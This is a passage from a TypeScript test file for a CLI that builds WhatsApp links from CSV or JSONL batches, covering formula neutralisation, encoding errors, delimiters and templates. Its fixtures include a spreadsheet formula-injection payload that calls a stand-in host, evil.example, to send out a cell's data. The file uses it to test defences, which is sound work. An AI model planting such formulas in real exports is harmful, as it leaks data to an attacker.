    ]);
    expect(rows[2]![5]).toMatch(/^"=1\+1" is not a phone number/);
  });

  it('writes the cells as they are with --raw-csv, and JSONL output is never changed', async () => {
    const raw = await run(['link', '--batch', '-', '--raw-csv'], { stdin: INPUT });
    const rows = parseCsv(raw.stdout, { bom: true }) as string[][];
    expect(rows[0]!.slice(0, 3)).toEqual(['phone', 'name', '=cmd']);
    expect(rows.slice(1).map((row) => row.slice(0, 3))).toEqual([
      ['+919876543210', `=HYPERLINK("http://evil.example/?d="&B3,"Click")`, '@SUM(1)'],
      ['=1+1', '-2+3', '\tx'],
      ['+44 7911 123456', '\rcr', '-1.5'],
    ]);
    const json = await run(['link', '--batch', '-', '--output-format', 'jsonl'], { stdin: INPUT });
    expect(jsonl(json.stdout).map((row) => [row.phone, row.name, row['=cmd']])).toEqual([
      ['+919876543210', `=HYPERLINK("http://evil.example/?d="&B3,"Click")`, '@SUM(1)'],
      ['=1+1', '-2+3', '\tx'],
      ['+44 7911 123456', '\rcr', '-1.5'],
    ]);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['@x', "'@x"],
    ['+', "'+"],
    ['-', "'-"],
    ['+1 (650) 253-0000', '+1 (650) 253-0000'],
    ['+91-98765-43210', '+91-98765-43210'],
    ['-1+1', "'-1+1"],
    ['+1 cmd', "'+1 cmd"],
    ['\t', "'\t"],
    ['a=1', 'a=1'],
    ['', ''],
  ])('neutralizeFormula(%j) is %j', (cell, expected) => {
    expect(neutralizeFormula(cell)).toBe(expected);
  });
});

describe('wabox link --batch: invalid UTF-8', () => {
  // as Excel saves "CSV" on Windows: windows-1252, é is 0xE9, € is 0x80
  const WINDOWS_1252 = Buffer.concat([
    Buffer.from('phone,text\n+919876543210,caf'),
    Buffer.from([0xe9]),
    Buffer.from('\n+919876543211,ok\n+919876543212,"two\nlines '),
    Buffer.from([0x80]),
    Buffer.from('"\n+919876543213,fine\n'),
  ]);
  const NOT_UTF8 = (byte: string) =>
    `not valid UTF-8 (byte 0x${byte}): save the file as UTF-8, or pass --encoding windows-1252 (or latin1)`;

  it.each(['1000000', '8'])(
    'refuses each row holding it with its line number, never a U+FFFD in a link (--chunk-bytes %s)',
    async (chunkBytes) => {
      const r = await run(['link', '--batch', '-', '--output-format', 'jsonl', '--chunk-bytes', chunkBytes], {
        stdin: WINDOWS_1252,
      });
      expect(r.code).toBe(1);
      expect(r.stdout).not.toContain('\ufffd');
      expect(r.stdout).not.toContain('%EF%BF%BD');
      expect(jsonl(r.stdout).map((row) => [row.phone ?? null, row.error])).toEqual([
        [null, NOT_UTF8('E9')],
        ['+919876543211', ''],
        [null, NOT_UTF8('80')],
        ['+919876543213', ''],
      ]);
      expect(rowLines(r.stderr)).toEqual([`line 2: ${NOT_UTF8('E9')}`, `line 4: ${NOT_UTF8('80')}`]);
    },
  );

  it('converts with --encoding windows-1252 or latin1', async () => {
    const cp1252 = await run(
      ['link', '--batch', '-', '--encoding', 'windows-1252', '--output-format', 'jsonl'],
      {
        stdin: WINDOWS_1252,
      },
    );
    expect(cp1252.code).toBe(0);
    expect(jsonl(cp1252.stdout).map((row) => row.text)).toEqual(['café', 'ok', 'two\nlines €', 'fine']);
    expect(jsonl(cp1252.stdout)[0]!.url).toBe('https://wa.me/919876543210?text=caf%C3%A9');
    const latin1 = await run(['link', '--batch', '-', '--encoding', 'latin1', '--output-format', 'jsonl'], {
      stdin: WINDOWS_1252,
    });
    expect(jsonl(latin1.stdout).map((row) => row.text)).toEqual(['café', 'ok', 'two\nlines \u0080', 'fine']);
  });

  it('refuses a header that is not UTF-8 (exit 2), and a JSONL line by its number', async () => {
    expectError(
      await run(['link', '--batch', '-'], {
        stdin: Buffer.from('phone,caf\xe9\n+919876543210,x\n', 'latin1'),
      }),
      2,
      'the CSV header is not valid UTF-8 (byte 0xE9)',
      'save the file as UTF-8, or pass --encoding windows-1252 (or latin1)',
    );
    const r = await run(['link', '--batch', '-', '--input-format', 'jsonl'], {
      stdin: Buffer.from('{"phone":"+919876543210"}\n\n{"phone":"+919876543211","t":"caf\xe9"}\n', 'latin1'),
    });
    expect(r.code).toBe(1);
    expect(rowLines(r.stderr)).toEqual([`line 3: ${NOT_UTF8('E9')}`]);
  });
});

describe('wabox link --batch: small things that must hold', () => {
  it('reads only a row’s own columns: {{toString}} and {{constructor}} are missing, as for one link', async () => {
    const batch = await run(['link', '--batch', '-', '--text', 'Hi {{toString}} {{constructor}}'], {
      stdin: 'phone,name\n+919876543210,Asha\n',
    });
    expect(batch.code).toBe(1);
    expect(rowLines(batch.stderr)).toEqual(['line 2: no value for {{toString}}, {{constructor}}']);
    expectError(
      await run(['link', '+919876543210', '--text', 'Hi {{toString}} {{constructor}}']),
      2,
      'no value for {{toString}}, {{constructor}}',
      'give each a value with --var toString=... or a default such as {{toString|...}}',
    );
    // and columns with those names are variables like any other
    const named = await run(
      ['link', '--batch', '-', '--text', 'Hi {{__proto__}} {{constructor}}', '--output-format', 'jsonl'],
      { stdin: 'phone,__proto__,constructor\n+919876543210,P,C\n' },
    );
    const row = jsonl(named.stdout)[0]!;
    expect(Object.entries(row)).toContainEqual(['__proto__', 'P']);
    expect(row.url).toBe('https://wa.me/919876543210?text=Hi%20P%20C');
  });

  it('keeps the mode of an output file it replaces', async () => {
    const dir = tempDir();
    const output = file(dir, 'out.csv', 'old\n');
    chmodSync(output, 0o600);
    const r = await run(['link', '--batch', '-', '--output', output], { stdin: 'phone\n+919876543210\n' });
    expect(r.code).toBe(0);
    expect(readFileSync(output, 'utf8')).toContain('https://wa.me/919876543210');
    expect(statSync(output).mode & 0o777).toBe(0o600);
  });

  it.each([
    ['csv', 'phone,name\n+919876543210,Asha\n', 'columns: "phone", "name"'],
    ['jsonl', '{"phone":"+919876543210","name":"Asha"}\n', 'columns: "phone", "name"'],
  ])(
    'refuses --name-column naming no column (%s, exit 2) before writing anything',
    async (format, stdin, columns) => {
      const dir = tempDir();
      const qrDir = join(dir, 'qr');
      expectError(
        await run(
          [
            'link',
            '--batch',
            '-',
            '--input-format',
            format,
            '--qr-dir',
            qrDir,
            '--name-column',
            'nosuch',
            '--jobs',
            '1',
          ],
          { stdin },
        ),
        2,
        `--name-column "nosuch" is not a column of the input (${columns})`,
      );
      expect(readdirSync(qrDir)).toEqual([]);
    },
  );
});

describe('wabox link --batch: warnings in the output', () => {
  it('puts a row’s warning in its warning column (CSV) and field (JSONL), and on stderr', async () => {
    const stdin = 'phone\n+919876543210\n+447700900123\n';
    const out = await run(['link', '--batch', '-'], { stdin });
    expect(out.code).toBe(0);
    const warning = '+447700900123 is in no assigned range (libphonenumber metadata): check it';
    expect(csv(out.stdout).map((row) => [row.waId, row.warning])).toEqual([
      ['919876543210', ''],
      // a cell starting with + that is more than a number is neutralised like any other
      ['447700900123', `'${warning}`],
    ]);
    expect(rowLines(out.stderr)).toEqual([`line 3: warning: ${warning}`]);
    const json = await run(['link', '--batch', '-', '--output-format', 'jsonl'], { stdin });
    expect(jsonl(json.stdout).map((row) => row.warning)).toEqual(['', warning]);
  });
});

describe('wabox link --batch: real-world exports', () => {
  it.each(['Mobile Number', 'Phone Number', 'WhatsApp', 'Mobile', 'Tel', ' mobile_number ', 'PHONE NUMBER'])(
    'finds the number in a %j column and keeps the column name',
    async (header) => {
      const r = await run(['link', '--batch', '-', '--text', 'Hi {{name}}'], {
        stdin: `name,${header}\nAsha,+91 98765 43210\n`,
      });
      expect(r.code).toBe(0);
      expect(r.stdout).toBe(
        `name,${header.trim()},url,waId,error,warning\nAsha,+91 98765 43210,https://wa.me/919876543210?text=Hi%20Asha,919876543210,,\n`,
      );
    },
  );

  it('takes --phone-column, refuses an unknown one (exit 2) and two candidates without it', async () => {
    const stdin = 'Mobile,Tel,name\n+919876543210,+919876543211,Asha\n';
    expectError(
      await run(['link', '--batch', '-'], { stdin }),
      2,
      'the columns "Mobile" and "Tel" could each be the phone column',
      'choose one with --phone-column "Mobile"',
    );
    const tel = await run(['link', '--batch', '-', '--phone-column', 'Tel'], { stdin });
    expect(csv(tel.stdout)[0]!.waId).toBe('919876543211');
    expectError(
      await run(['link', '--batch', '-', '--phone-column', 'nosuch'], { stdin }),
      2,
      '--phone-column "nosuch" is not a column of the input (columns: "Mobile", "Tel", "name")',
    );
    const jsonlIn = await run(['link', '--batch', '-', '--input-format', 'jsonl', '--phone-column', 'cell'], {
      stdin: '{"cell":"+919876543212"}\n',
    });
    expect(csv(jsonlIn.stdout)[0]!.waId).toBe('919876543212');
  });

  it.each([
    [
      'semicolons (Excel in Europe), with a BOM and CRLF',
      '\ufeffName;Mobile Number;Note\r\nAsha;+91 98765 43210;"a;b, c"\r\n',
      [],
    ],
    ['tabs', 'Name\tMobile Number\tNote\nAsha\t+91 98765 43210\ta;b, c\n', []],
    [
      '| given with --delimiter',
      'Name|Mobile Number|Note\nAsha|+91 98765 43210|a;b, c\n',
      ['--delimiter', '|'],
    ],
    [
      'tab given with --delimiter tab',
      'Name\tMobile Number\tNote\nAsha\t+91 98765 43210\ta;b, c\n',
      ['--delimiter', 'tab'],
    ],
  ])('reads fields separated by %s', async (_, stdin, extra) => {
    for (const chunkBytes of ['1000000', '4']) {
      const r = await run(['link', '--batch', '-', '--chunk-bytes', chunkBytes, ...extra], { stdin });
      expect(r.code).toBe(0);
      expect(csv(r.stdout)).toEqual([
        {
          Name: 'Asha',
          'Mobile Number': '+91 98765 43210',
          Note: 'a;b, c',
          url: 'https://wa.me/919876543210',
          waId: '919876543210',
          error: '',
          warning: '',
        },
      ]);
    }
  });

  it('refuses a --delimiter it does not know (exit 2)', async () => {
    expectError(
      await run(['link', '--batch', '-', '--delimiter', 'xx'], { stdin: 'phone\n1\n' }),
      2,
      '--delimiter must be ",", ";", "|" or "tab", not "xx"',
    );
  });
});

describe('wabox link --batch --template', () => {
  async function library() {
    const env = { WABOX_CONFIG_DIR: tempDir() };
    await run(['config', 'set', 'business-name', "Asha's Kitchen"], { env });
    for (const pack of ['hi', 'en'])
      expect((await run(['template', 'init', '--pack', pack], { env })).code).toBe(0);
    return env;
  }
  const text = (url: string) => decodeURIComponent(new URL(url).searchParams.get('text') ?? '');

  it('renders the template for each row with its columns as variables, and per-row template and lang', async () => {
    const env = await library();
    const stdin = [
      'phone,template,lang,product',
      '+919876543210,cta-order,hi,',
      '+919876543211,cta-info,en,cake',
      '+919876543212,,,',
      '+919876543213,cta-order,fr,',
      '',
    ].join('\n');
    for (const jobs of ['1', '2']) {
      // the built CLI: worker threads need dist/
      const r = await spawnCli(
        [
          'link',
          '--batch',
          '-',
          '--template',
          'cta-info-en',
          '--jobs',
          jobs,
          '--chunk-bytes',
          '8',
          '--output-format',
          'jsonl',
        ],
        { stdin, env },
      );
      expect(r.code, r.stderr).toBe(1);
      const rows = jsonl(r.stdout);
      expect(rows.map((row) => (row.url ? text(row.url) : row.error))).toEqual([
        "नमस्ते Asha's Kitchen! मुझे ऑर्डर देना है।",
        "Hello! I saw your post and I'd like to know more about cake.",
        // an empty cell leaves the template's default
        expect.stringMatching(/^Hello! I saw your post and I'd like to know more about (?!\.)/),
        'no cta template "cta-order-fr", nor "cta-order" in language fr',
      ]);
    }
  });

  it('refuses an unknown --template (exit 6) and --template with --text (exit 2)', async () => {
    const env = await library();
    const stdin = 'phone\n+919876543210\n';
    const unknown = await run(['link', '--batch', '-', '--template', 'nosuch'], { stdin, env });
    expect(unknown.code).toBe(6);
    expect(unknown.stderr).toMatch(/^error: no template named "nosuch"/);
    expectError(
      await run(['link', '--batch', '-', '--template', 'cta-order-en', '--text', 'x'], { stdin, env }),
      2,
      '--text and --template both give the text: choose one',
    );
  });
});
